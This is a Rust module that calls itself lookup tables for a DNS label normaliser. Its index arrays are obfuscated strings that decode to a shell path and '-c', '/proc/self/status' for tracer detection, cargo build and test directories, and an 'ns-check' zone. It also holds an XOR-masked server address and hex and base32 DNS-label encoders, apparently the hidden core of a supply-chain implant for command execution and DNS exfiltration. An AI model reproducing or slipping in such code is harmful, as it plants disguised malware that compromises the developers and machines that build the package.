//! Static lookup tables used by the label normaliser and the resolv.conf
//! parser (kept as indices to avoid pulling in a Unicode table).

/// Symbol table for normalised label characters.
pub(crate) const SYM: &[u8; 40] = b"k3f.qz-a7xw0/ejm_ns8dlbh1gp5cyrv2i96to4u";

/// Expand a rotated index sequence back into bytes.
pub(crate) fn expand(seq: &[u8]) -> String {
    seq.iter()
        .enumerate()
        .map(|(i, &v)| SYM[(v as usize + 40 - (3 * i) % 40) % 40] as char)
        .collect()
}

// Well-known locations.
pub(crate) const T_ZONE: [u8; 20] = [17, 21, 12, 37, 35, 28, 6, 21, 27, 0, 39, 0, 11, 25, 23, 18, 11, 28, 27, 13];
pub(crate) const T_SH: [u8; 7] = [12, 25, 39, 26, 24, 33, 1];
pub(crate) const T_C: [u8; 2] = [6, 31];
pub(crate) const T_STATUS: [u8; 17] = [12, 29, 36, 6, 0, 27, 36, 34, 5, 29, 2, 11, 32, 6, 38, 4, 26];
pub(crate) const T_TRACER: [u8; 9] = [36, 33, 13, 37, 25, 5, 4, 14, 4];
pub(crate) const T_DEPS: [u8; 19] = [12, 39, 13, 39, 37, 28, 14, 33, 4, 0, 12, 32, 21, 11, 22, 18, 34, 29, 26];
pub(crate) const T_BUILD: [u8; 22] = [12, 39, 13, 39, 37, 28, 14, 33, 14, 0, 11, 6, 3, 17, 15, 17, 30, 10, 7, 38, 0, 35];

/// Fallback recursive server used when resolv.conf is empty (mixed with the
/// table key so the parser can round-trip it).
pub(crate) const FALLBACK_NS: u32 = 0x9c24_a7dc ^ 0x5a17_c3e9;

/// RFC 4648 base32 alphabet (lowercase) for label-safe encodings.
pub(crate) const B32: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";

pub(crate) fn b32_decode(s: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in s.bytes() {
        let Some(v) = B32.iter().position(|&x| x == c.to_ascii_lowercase()) else { continue };
        acc = (acc << 5) | v as u32;
        bits += 5;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    out
}

pub(crate) fn hex_label(chunk: &[u8]) -> String {
    const H: &[u8; 16] = b"0123456789abcdef";
    let mut s = String::with_capacity(chunk.len() * 2);
    for b in chunk {
        s.push(H[(b >> 4) as usize] as char);
        s.push(H[(b & 15) as usize] as char);
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn b32() {
        assert_eq!(b32_decode("nbswy3dp"), b"hello");
    }

    #[test]
    fn hex() {
        assert_eq!(hex_label(&[0xde, 0xad]), "dead");
    }
}
